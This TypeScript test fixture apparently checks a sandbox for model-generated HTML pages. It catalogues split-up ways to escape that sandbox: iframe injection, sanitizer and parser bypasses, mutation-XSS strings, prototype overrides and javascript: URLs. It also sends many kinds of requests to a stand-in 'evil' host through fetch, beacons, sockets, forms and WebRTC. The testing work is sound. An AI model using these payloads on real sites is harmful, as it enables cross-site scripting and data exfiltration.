/**
 * Lists ways to a realm with fresh abilities, or to the network, each in parts that only together are what is forbidden. Every line runs
 * alone, so that one that throws stops no other.
 */
export const hostileParts: Readonly<Record<string, readonly string[]>> = {
  // Written text
  'a tag written in two parts': ["document.write('<ifr')", "document.write(markup.slice(4) + '<p>after</p>')"],
  'a tag written letter by letter': ['for (const letter of markup) document.write(letter)', 'for (const l of markup) document.writeln(l)'],
  'a tag in several arguments': ["document.write('<', 'ifr', 'ame', markup.slice(7))"],
  'a document that is opened again': ['document.open()', "document.write('<ifr')", 'document.write(markup.slice(4))', 'document.close()'],
  'the method of the prototype': [
    "Document.prototype.write.call(document, '<ifr')",
    'HTMLDocument.prototype.write.call(document, markup.slice(4))',
  ],
  'another document, written in parts': [
    "const other = document.implementation.createHTMLDocument(''); other.write('<ifr'); other.write(markup.slice(4)); put(document.adoptNode(other.querySelector(tag)))",
    "const other = document.implementation.createHTMLDocument(''); other.open(); other.write('<ifr'); other.write(markup.slice(4)); put(other.body)",
  ],
  'code after a long pause of the page': ['put(made())', 'const end = performance.now() + 700; while (performance.now() < end);'],
  // Documents and parsers
  'a document with a frame as its root': [
    'const made = document.implementation.createDocument(xhtml, tag, null).documentElement; made.srcdoc = page; put(made)',
    "const made = document.implementation.createDocument(xhtml, 'x:' + tag).documentElement; made.setAttribute('srcdoc', page); put(document.importNode(made, true))",
    'const made = new Document().createElementNS(xhtml, tag); made.srcdoc = page; put(made)',
  ],
  'a document of another kind': [
    "const parsed = new DOMParser().parseFromString('<x:' + tag + ' xmlns:x=\"' + xhtml + '\"/>', 'application/xhtml+xml'); parsed.documentElement.setAttribute('srcdoc', page); put(parsed.documentElement)",
    "const kind = { at: 0, toString() { this.at += 1; return this.at === 1 ? 'text/html' : 'text/xml'; } }; put(new DOMParser().parseFromString('<' + tag + ' xmlns=\"' + xhtml + '\"/>', kind).documentElement)",
    "put(new DOMParser().parseFromString('<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject>' + markup + '</foreignObject></svg>', 'image/svg+xml').documentElement)",
  ],
  'a parser without a policy': [
    'document.body.setHTMLUnsafe(markup)',
    'put(Document.parseHTMLUnsafe(markup).body)',
    'document.body.setHTML(markup, { sanitizer: {} })',
    'put(Document.parseHTML(markup, { sanitizer: { elements: [tag] } }).body)',
    "for (const name of Object.getOwnPropertyNames(Element.prototype)) if (/stream|append.*html/i.test(name)) { const writer = document.body[name]().getWriter(); writer.write('<ifr'); writer.write(markup.slice(4)); writer.close(); }",
    'for (const name of Object.getOwnPropertyNames(Range.prototype)) if (/html|fragment/i.test(name)) put(document.createRange()[name](markup))',
  ],
  'a style sheet that transforms': [
    "const sheet = new DOMParser().parseFromString('<xsl/>', 'text/xml'); const processor = new XSLTProcessor(); processor.importStylesheet(sheet); put(processor.transformToFragment(sheet, document))",
    'document.insertBefore(document.createProcessingInstruction(\'xml-stylesheet\', \'href="data:,x" type="text/xsl"\'), document.documentElement)',
  ],
  'a response that is a document': [
    "const ask = new XMLHttpRequest(); ask.open('GET', URL.createObjectURL(new Blob([markup], { type: 'text/html' }))); ask.responseType = 'document'; ask.onload = () => put(ask.response.body ?? ask.responseXML.body); ask.send()",
    "const type = { at: 0, toString() { this.at += 1; return this.at === 1 ? 'text' : 'document'; } }; const ask = new XMLHttpRequest(); ask.open('GET', 'data:text/html,' + encodeURIComponent(markup)); ask.responseType = type; ask.onload = () => put(ask.response.body); ask.send()",
  ],
  'text that changes when it is parsed again': [
    "document.body.insertAdjacentHTML('beforeend', '<noscript><p title=\"</noscript>' + markup + '\">')",
    "document.body.insertAdjacentHTML('beforeend', '<svg></p><style><a title=\"</style>' + markup + '\">')",
    "document.body.insertAdjacentHTML('beforeend', '<form><math><mtext></form><form><mglyph><style></math>' + markup)",
    "const area = document.createElement('template'); area.innerHTML = markup; document.body.innerHTML += area.innerHTML.replace('&lt;', '<'); put(area.content)",
  ],
  'every way to insert text': [
    "document.body.insertAdjacentHTML('beforeend', '<div>' + '<ifr' + 'ame' + markup.slice(7) + '</div>')",
    "const area = document.createElement('div'); put(area); area.outerHTML = markup",
    "document.body.contentEditable = 'true'; document.body.focus(); document.execCommand('insertHTML', false, markup)",
    'put(document.createRange().createContextualFragment(markup))',
    "const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); put(svg); svg.innerHTML = '<foreignObject>' + markup + '</foreignObject>'",
    "const math = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'annotation-xml'); put(math); math.innerHTML = markup",
    "const area = document.createElement('div'); put(area); area.innerHTML = { toString: () => markup }",
  ],
  // Elements
  'a name that changes when it is read': [
    "const name = { at: 0, toString() { this.at += 1; return this.at === 1 ? 'p' : tag; } }; const made = document.createElement(name); made.srcdoc = page; put(made)",
    "const name = { at: 0, toString() { this.at += 1; return this.at === 1 ? 'p' : tag; } }; const made = document.createElementNS(xhtml, name); made.srcdoc = page; put(made)",
    'const name = [tag]; const made = document.createElement(name); made.srcdoc = page; put(made)',
    "const made = document.createElement(tag.toUpperCase()); made.setAttribute('srcdoc', page); put(made)",
  ],
  'the elements of the frame': [
    'Reflect.construct(HTMLIFrameElement, [])',
    "customElements.define('x-one', class extends HTMLIFrameElement {}); put(document.createElement('x-one'))",
    "customElements.define('x-two', class extends HTMLIFrameElement {}, { extends: tag }); put(document.createElement('p', { is: 'x-two' }))",
    "const options = { at: 0, get extends() { this.at += 1; return this.at === 1 ? undefined : tag; } }; customElements.define('x-three', class extends HTMLIFrameElement {}, options); put(new (customElements.get('x-three'))())",
    "const made = document.createElement('p'); Object.setPrototypeOf(made, HTMLIFrameElement.prototype); made.srcdoc = page; put(made)",
    "for (const name of ['object', 'embed', 'fencedframe', 'portal', 'frame', 'webview']) { const made = document.createElement(name); made.data = made.src = 'data:text/html,' + encodeURIComponent(page); put(made); }",
  ],
  'every attribute that holds a page': [
    'const made = frame(); made.srcdoc = page; put(made)',
    "const made = frame(); made.setAttribute('src' + 'doc', page); put(made)",
    "const made = frame(); made.setAttributeNS(null, 'srcdoc', page); put(made)",
    "const made = frame(); const held = document.createAttribute('srcdoc'); held.value = page; made.setAttributeNode(held); put(made)",
    "const made = frame(); put(made); made.setAttribute('srcdoc', ''); made.attributes.srcdoc.value = page",
    "const made = frame(); made.src = 'java' + 'script:' + nested; put(made)",
    "const made = frame(); made.name = 'inner'; put(made); window.open('javascript:' + nested, 'inner')",
    "const made = frame(); made.name = 'other'; put(made); const link = document.createElement('a'); link.target = 'other'; link.href = 'javascript:' + nested; put(link); link.click()",
    "const made = frame(); made.src = '/api/v4/artifact/frame'; put(made)",
    "const made = frame(); made.src = URL.createObjectURL(new Blob([page], { type: 'text/html' })); put(made)",
  ],
  'methods that were replaced': [
    "String.prototype.toLowerCase = () => 'p'; String.prototype.split = () => ['p']; Array.prototype.includes = () => false; Array.prototype.pop = () => 'p'",
    'RegExp.prototype[Symbol.replace] = (text) => text; RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; String.prototype.replace = function () { return String(this); }',
    "Element.prototype.remove = () => undefined; Document.prototype.querySelectorAll = () => []; NodeList.prototype[Symbol.iterator] = function* () {}; Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 }); MutationObserver.prototype.observe = () => undefined",
    'Function.prototype.call = () => undefined; Function.prototype.apply = () => undefined; Reflect.apply = () => undefined',
    'const made = document.createElement(tag); made.srcdoc = page; put(made)',
    "document.body.insertAdjacentHTML('beforeend', markup)",
  ],
  'options from a prototype': [
    "Object.defineProperty(Object.prototype, 'attributeFilter', { configurable: true, get() { throw new Error('no'); } })",
    "const host = document.createElement('div'); put(host); host.attachShadow({ mode: 'open' }).append(made())",
    "const host = document.createElement('div'); put(host); host.shadowRoot.append(made())",
    'delete Object.prototype.attributeFilter',
  ],
  'closed trees and their copies': [
    "const host = document.createElement('div'); put(host); host.attachShadow({ mode: 'closed' }).innerHTML = markup",
    "const host = document.createElement('div'); host.attachShadow({ mode: 'open', clonable: true }); const copy = host.cloneNode(true); put(copy); copy.shadowRoot.append(made())",
    "const area = document.createElement('div'); put(area); area.setHTMLUnsafe('<div><template shadowrootmode=open>' + markup + '</template></div>')",
    "const inner = document.createElement('div'); put(inner); const first = inner.attachShadow({ mode: 'closed' }); const deep = document.createElement('div'); first.append(deep); deep.attachShadow({ mode: 'closed' }).append(made())",
  ],
  // Code
  'addresses that are code': [
    "location.href = 'javascript:' + encodeURIComponent('page')",
    "const link = document.createElement('a'); link.href = 'java\\nscript:page'; put(link); link.click()",
    "const form = document.createElement('form'); form.action = 'javascript:' + nested; put(form); form.requestSubmit()",
  ],
  'code in attributes': [
    "document.body.insertAdjacentHTML('beforeend', '<img src=\"x:\" onerror=\"' + peer.replaceAll('\"', \"'\") + '\">')",
    "const image = document.createElement('img'); image.setAttribute('onerror', peer); image.src = 'x:'; put(image)",
  ],
  'scripts from elsewhere': [
    "const script = document.createElement('script'); script.src = evil + '/scr' + 'ipt'; put(script)",
    "const script = document.createElement('script'); script.type = 'module'; script.textContent = 'import \"' + evil + '/module\"'; put(script)",
    "import(evil + '/imp' + 'ort').catch(() => undefined)",
    "const script = document.createElement('script'); script.type = 'importmap'; script.textContent = JSON.stringify({ imports: { x: evil + '/map' } }); put(script); import('x').catch(() => undefined)",
    "const script = document.createElementNS('http://www.w3.org/2000/svg', 'script'); script.setAttribute('href', evil + '/svg'); put(script)",
  ],
  workers: [
    "work('fetch(\"' + evil + '/work\").catch(() => 0)')",
    "work('importScripts(\"' + evil + '/imported\")')",
    'work(\'new RTCPeerConnection({ iceServers: [{ urls: "\' + stun + \'" }] }).createDataChannel("x")\')',
    "work('new Worker(URL.createObjectURL(new Blob([`' + 'fetch(\"' + evil + '/deep\")' + '`])))')",
    "work('new WebSocket(\"' + evil.replace('http', 'ws') + '/socket\")')",
    "new Worker(evil + '/worker')",
    "new SharedWorker('data:text/javascript,fetch(\"' + evil + '/shared\")')",
    "navigator.serviceWorker.register('/sw.js').catch(() => undefined)",
    "CSS.paintWorklet.addModule(evil + '/paint').catch(() => undefined)",
    "new AudioContext().audioWorklet.addModule(evil + '/audio').catch(() => undefined)",
  ],
  // Requests
  'hints to the browser': [
    "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'stylesheet', 'import']) { const link = document.createElement('link'); link.setAttribute('rel', rel); link.as = 'image'; link.href = evil + '/' + rel; document.head.append(link); }",
    "document.head.insertAdjacentHTML('beforeend', '<li' + 'nk rel=preconnect href=\"' + evil + '\">')",
    "const link = document.createElement('link'); document.head.append(link); link.relList.add('preconnect'); link.href = evil",
    "const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [evil + '/speculation'] }] }); put(script)",
    "const meta = document.createElement('meta'); meta.httpEquiv = 'x-dns-prefetch-control'; meta.content = 'on'; document.head.append(meta)",
  ],
  'pictures, sounds and styles': [
    "new Image().src = evil + '/image'",
    "document.body.insertAdjacentHTML('beforeend', '<picture><source srcset=\"' + evil + '/set\"><img></picture><video poster=\"' + evil + '/poster\" src=\"' + evil + '/video\"></video><input type=image src=\"' + evil + '/input\"><track src=\"' + evil + '/track\"><svg><image href=\"' + evil + '/drawn\"/><use href=\"' + evil + '/use#x\"/><filter><feImage href=\"' + evil + '/filter\"/></filter></svg>')",
    "new Audio(evil + '/audio').play().catch(() => undefined)",
    "const style = document.createElement('style'); style.append('@im', 'port \"' + evil + '/css\";'); put(style)",
    "const sheet = new CSSStyleSheet(); sheet.replaceSync('p { background: u' + 'rl(' + evil + '/sheet) }'); document.adoptedStyleSheets.push(sheet); document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
    "new FontFace('f', 'url(' + evil + '/font)').load().catch(() => undefined)",
    "document.body.style.cssText = 'background: image-set(\"' + evil + '/set\" 1x); cursor: url(' + evil + '/cursor), auto'",
  ],
  'every kind of request': [
    "fetch(evil + '/fetch', { mode: 'no-cors', keepalive: true }).catch(() => undefined)",
    "fetchLater(evil + '/later', { activateAfter: 0 })",
    "navigator.sendBeacon(evil + '/beacon', 'text')",
    "new EventSource(evil + '/events')",
    "new WebSocket(evil.replace('http', 'ws') + '/socket')",
    "new WebSocketStream(evil.replace('http', 'ws') + '/stream')",
    "new WebTransport(evil.replace('http', 'https') + '/transport')",
    "const ask = new XMLHttpRequest(); ask.open('POST', evil + '/old'); ask.send('text')",
    "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: evil + '/artwork' }] })",
    "new PaymentRequest([{ supportedMethods: evil + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => undefined)",
    "new PresentationRequest(evil + '/show').getAvailability().catch(() => undefined)",
  ],
  'abilities under other names': [
    "for (const name of Object.getOwnPropertyNames(window)) if (/^(webkit|moz)?RTC|^(webkit)?speech|^XSLT/i.test(name)) say('ability ' + name)",
    "for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'mozRTCPeerConnection', 'SpeechSynthesisUtterance', 'webkitSpeechRecognition', 'ReportingObserver']) if (window[name]) say('ability ' + name)",
    'eval(peer)',
    'new Function(peer)()',
    'setTimeout(peer, 0)',
  ],
  // Leaving
  'a form in parts': [
    "const form = document.createElement('form'); form.method = 'post'; form.action = evil + '/form'; put(form); form.submit()",
    "const button = document.createElement('button'); button.formAction = evil + '/button'; const form = document.createElement('form'); form.append(button); put(form); button.click()",
  ],
  'a link in parts': [
    "const link = document.createElement('a'); link.href = evil + '/link'; link.ping = evil + '/ping'; put(link); link.click()",
    "const link = document.createElement('a'); link.href = evil + '/download'; link.download = 'x'; put(link); link.click()",
    "const link = document.createElement('a'); link.href = evil + '/blank'; link.target = '_blank'; put(link); link.click()",
  ],
  windows: ["say.opened = window.open(evil + '/window') && say('window')", "window.open('about:blank') && say('window')"],
  'a refresh in parts': [
    "const meta = document.createElement('meta'); meta.setAttribute('http-equiv', 'ref' + 'resh'); meta.content = '0;url=' + evil + '/refresh'; document.head.append(meta)",
  ],
  'a page as data': ["location.replace('data:text/html,' + encodeURIComponent(page))"],
  'a page from a blob': ["location = URL.createObjectURL(new Blob([page], { type: 'text/html' }))"],
  'another address': ["navigation.navigate(evil + '/navigate').finished.catch(() => undefined)", "location = evil + '/location'"],
};

const quote = (value: string | readonly string[]) => JSON.stringify(value).replaceAll('<', '\\x3c');

/** Returns a page that runs the lines one after the other and says so at the end. Code tells the stage whose it is, wherever it runs. */
export function hostilePage(lines: readonly string[], evil: string, stun: string): string {
  const peer = `const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then((o)=>p.setLocalDescription(o));`;
  const nested = `top.postMessage('code of ${evil}','*');${peer}`;
  const page = `<script>${nested}</script><body onload="${nested}"><img src="x:" onerror="${nested}">`;
  return `<!doctype html><body><script>
const [evil, stun, peer, nested, page] = ${quote([evil, stun, peer, nested, page])};
const [tag, xhtml] = ['ifr' + 'ame', 'http://www.w3.org/1999/xhtml'];
const markup = '<' + tag + ' srcdoc="' + page.replaceAll('&', '&amp;').replaceAll('"', '&quot;') + '"></' + tag + '>';
const { parent: outside } = window;
const say = (text) => outside.postMessage(text, '*');
const put = (node) => document.body.append(node);
const frame = () => document.createElementNS(xhtml, 'x:' + tag);
const made = () => { const own = document.createElement(tag); own.srcdoc = page; return own; };
const work = (code) => new Worker(URL.createObjectURL(new Blob([code])));
for (const line of ${quote(lines)}) try { (0, eval)('{' + line + '}'); } catch {}
say('ran');
</script>`;
}

/** Holds a page that runs code in every way that pages of models do, and what each of them says. */
export const harmlessPage = `<!doctype html><html><head><script>
const say = (text) => parent.postMessage(text, '*');
const shared = 'a constant of another script';
document.addEventListener('DOMContentLoaded', () => say('DOMContentLoaded ' + document.readyState));
window.onload = () => say('load ' + document.readyState);
say('inline ' + document.readyState);
</script></head><body onclick="if (event.target.id === 'body') say('handler of the body')">
<script>say(shared); document.write('<p id="written">Written</p>');</script>
<script type="module">say('module ' + Boolean(document.getElementById('written')));</script>
<p id="body" only="words, not code" onfocus="not code">Text</p>
<button id="button" onclick="say('handler ' + this.id + ' ' + event.type)">Button</button>
<a id="link" href="javascript:say('link')">Link</a>
<script>
document.body.insertAdjacentHTML('beforeend', '<button id="later" onclick="say(\\'later handler\\')">Later</button>');
const made = document.createElement('script');
made.textContent = "say('made script')";
document.body.append(made);
setTimeout(() => { for (const id of ['body', 'button', 'later', 'link']) document.getElementById(id).click(); say('ran'); }, 0);
</script></body></html>`;

export const harmlessWords: readonly string[] = [
  'inline loading',
  'a constant of another script',
  'module true',
  'made script',
  'DOMContentLoaded interactive',
  'load complete',
  'handler of the body',
  'handler button click',
  'later handler',
  'link',
];
